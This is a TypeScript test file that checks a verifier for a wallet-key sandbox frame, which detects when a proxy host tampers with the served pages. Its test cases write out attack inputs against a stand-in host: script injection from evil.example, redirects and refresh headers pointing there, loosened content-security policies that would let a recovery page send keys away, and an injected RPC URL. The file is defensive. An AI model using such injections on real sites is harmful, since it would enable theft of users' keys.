/** Attacks of a host that serves something else than the build, as a third party sees them. */
import { generateKeyPairSync, sign } from 'node:crypto'
import { cpSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:http'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import {
  createManifest,
  type FrameHost,
  fixed,
  isManifestSigned,
  printManifest,
  readManifest,
  startFrame,
  verifyFrame,
} from '@keybay/sandbox-frame'
import { newKeyPair } from '@keybay/sandbox-service/key-pair'
import { temporaryFolder } from '@keybay/sandbox-service/testing/temporary-folder'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { acme } from '../embedder.js'
import { listenHere } from '../pages.js'

interface Reply {
  status: number
  headers: Record<string, string>
  body: string
}
type Attack = (path: string, reply: Reply) => void

let frame: FrameHost
beforeAll(async () => {
  frame = await startFrame({
    mode: 'sandbox',
    environments: fixed([acme]),
    exports: { acme: async () => ({ parentOrigins: acme.parentOrigins }) },
  })
})
afterAll(() => frame.stop())

/** Verifies a host that changes the frame's responses. @returns what differs, by path */
async function verifyBehind(attack: Attack): Promise<Readonly<Record<string, string>>> {
  const host = createServer(async ({ url = '' }, response) => {
    const real = await fetch(`http://127.0.0.1:${frame.port}${url}`)
    const reply: Reply = { status: real.status, headers: Object.fromEntries(real.headers), body: await real.text() }
    attack(url, reply)
    delete reply.headers['content-length']
    response.writeHead(reply.status, reply.headers).end(reply.body)
  })
  const { port, close } = await listenHere(host)
  try {
    const { findings } = await verifyFrame(`http://127.0.0.1:${port}/waas-v1/acme`, await createManifest())
    return Object.fromEntries(findings.flatMap(({ path, problem }) => (problem === undefined ? [] : [[path, problem]])))
  } finally {
    close()
  }
}

describe('a host that serves the build', () => {
  it('every page, script and style is the build’s, and the configuration is shown', async () => {
    const { findings, configuration } = await verifyFrame(
      `http://127.0.0.1:${frame.port}/waas-v1/acme`,
      await createManifest(),
    )
    expect(findings.filter(({ problem }) => problem !== undefined)).toEqual([])
    const paths = findings.map(({ path }) => path)
    for (const path of [
      '/waas-v1/acme',
      '/waas-v1/acme/granted',
      '/turnkey-export-v1/acme',
      '/turnkey-sign-v1/acme',
      '/recover',
    ])
      expect(paths).toContain(path)
    expect(paths.filter(path => path.startsWith('/assets/')).length).toBeGreaterThan(5)
    expect(configuration).toEqual(acme)
  })

  it('serves the manifest of its build', async () => {
    const served = new Uint8Array(await (await fetch(`http://127.0.0.1:${frame.port}/manifest.json`)).arrayBuffer())
    expect(readManifest(served)).toEqual(await createManifest())
  })
})

describe('a build folder with a file of an earlier build', () => {
  it('neither serves the file nor lists it', async () => {
    const folder = join(temporaryFolder(), 'client')
    cpSync(fileURLToPath(new URL('../../dist/client', import.meta.url)), folder, { recursive: true })
    writeFileSync(join(folder, 'assets/index-AAAAAAAA.js'), 'old()')
    expect(await createManifest(folder)).toEqual(await createManifest())
  })
})

describe('a host that serves something else', () => {
  it.each<readonly [what: string, attack: Attack, path: string | RegExp, problem: RegExp]>([
    [
      'another script in the page',
      (path, reply) => {
        if (path === '/waas-v1/acme')
          reply.body = reply.body.replace('</head>', '<script src="/assets/evil.js"></script></head>')
      },
      '/waas-v1/acme',
      /has the hash/,
    ],
    [
      'code behind the configuration',
      (path, reply) => {
        if (path === '/waas-v1/acme')
          reply.body = reply.body.replace(
            '<meta name="keybay:frame" content="',
            '<meta name="keybay:frame" content="{}"><script src="//evil.example/"></script><meta content="',
          )
      },
      '/waas-v1/acme',
      /has the hash|configuration/,
    ],
    [
      'the page of another environment',
      (path, reply) => {
        if (path === '/waas-v1/acme') reply.body = reply.body.replace('&quot;acme&quot;', '&quot;other&quot;')
      },
      '/waas-v1/acme',
      /is the page of other/,
    ],
    [
      'a changed byte of a script',
      (path, reply) => {
        if (path.includes('/shared-')) reply.body = `${reply.body} `
      },
      /^\/assets\/shared-/,
      /has the hash/,
    ],
    [
      'a worker that may send requests',
      (path, reply) => {
        if (path.includes('/kdf-worker-')) reply.headers['content-security-policy'] = 'default-src *'
      },
      /kdf-worker/,
      /content-security-policy/,
    ],
    [
      'a page that any origin may embed',
      (path, reply) => {
        if (path === '/waas-v1/acme')
          reply.headers['content-security-policy'] = (reply.headers['content-security-policy'] ?? '').replace(
            /frame-ancestors [^;]+/,
            'frame-ancestors *',
          )
      },
      '/waas-v1/acme',
      /content-security-policy/,
    ],
    [
      'no policy on the return page',
      (path, reply) => {
        if (path.endsWith('/granted')) delete reply.headers['content-security-policy']
      },
      '/waas-v1/acme/granted',
      /content-security-policy: \(none\)/,
    ],
    [
      'a header that leads elsewhere',
      (path, reply) => {
        if (path === '/waas-v1/acme') reply.headers.refresh = '0;url=https://evil.example'
      },
      '/waas-v1/acme',
      /does not send: refresh/,
    ],
    [
      'a redirect',
      (path, reply) => {
        if (path === '/recover') Object.assign(reply, { status: 302, headers: { location: 'https://evil.example' } })
      },
      '/recover',
      /answers 302/,
    ],
    [
      'a recovery page that sends keys away, and allows it in its policy',
      (path, reply) => {
        if (path === '/recover') reply.body = reply.body.replace("default-src 'none'", 'default-src *')
      },
      '/recover',
      /has the hash/,
    ],
    [
      'an export window for other origins in its header than in its page',
      (path, reply) => {
        if (path === '/turnkey-export-v1/acme')
          reply.headers['content-security-policy'] = (reply.headers['content-security-policy'] ?? '').replace(
            'https://acme.example',
            'https://evil.example',
          )
      },
      '/turnkey-export-v1/acme',
      /content-security-policy/,
    ],
    [
      'an export window that reaches a node',
      (path, reply) => {
        if (path === '/turnkey-export-v1/acme')
          reply.body = reply.body.replace('{&quot;', '{&quot;rpcUrl&quot;:&quot;https://evil.example&quot;,&quot;')
      },
      '/turnkey-export-v1/acme',
      /shows keys, and reaches a node/,
    ],
  ])('is caught with %s', async (_, attack, path, problem) => {
    const problems = Object.entries(await verifyBehind(attack))
    expect(problems).toHaveLength(1)
    const [[found = '', text = ''] = []] = problems
    expect(found).toMatch(path)
    expect(text).toMatch(problem)
  })

  it('is caught with a file that is missing', async () => {
    const problems = await verifyBehind((path, reply) => {
      if (path.endsWith('.css')) reply.status = 404
    })
    expect(Object.values(problems)).toEqual(['answers 404'])
  })
})

describe('the signature of a manifest', () => {
  const { privateKey, publicKey } = newKeyPair('Ed25519')
  const pem = publicKey.export({ format: 'pem', type: 'spki' }).toString()

  it('is accepted from the key alone, and for these bytes alone', async () => {
    const manifest = printManifest(await createManifest())
    const signature = sign(null, manifest, privateKey).toString('base64')
    expect(isManifestSigned(manifest, signature, pem)).toBe(true)
    const other = newKeyPair('Ed25519').publicKey.export({ format: 'pem', type: 'spki' }).toString()
    expect(isManifestSigned(manifest, signature, other)).toBe(false)
    expect(isManifestSigned(Buffer.concat([manifest, Buffer.from(' ')]), signature, pem)).toBe(false)
    expect(isManifestSigned(manifest, '', pem)).toBe(false)
    const wrongKind = generateKeyPairSync('rsa', {
      modulusLength: 2048,
      privateKeyEncoding: { type: 'pkcs8', format: 'pem' },
      publicKeyEncoding: { type: 'spki', format: 'pem' },
    })
    expect(
      isManifestSigned(manifest, sign(null, manifest, wrongKind.privateKey).toString('base64'), wrongKind.publicKey),
    ).toBe(false)
  })

  it.each([
    ['another format', { format: 'keybay-frame-2', files: {} }],
    ['a weaker hash', { format: 'keybay-frame-1', files: { '/a': 'sha1-AAAA' } }],
    ['more fields', { format: 'keybay-frame-1', files: {}, more: 1 }],
  ])('a manifest with %s is refused', (_, manifest) => {
    expect(() => readManifest(Buffer.from(JSON.stringify(manifest)))).toThrow()
  })
})
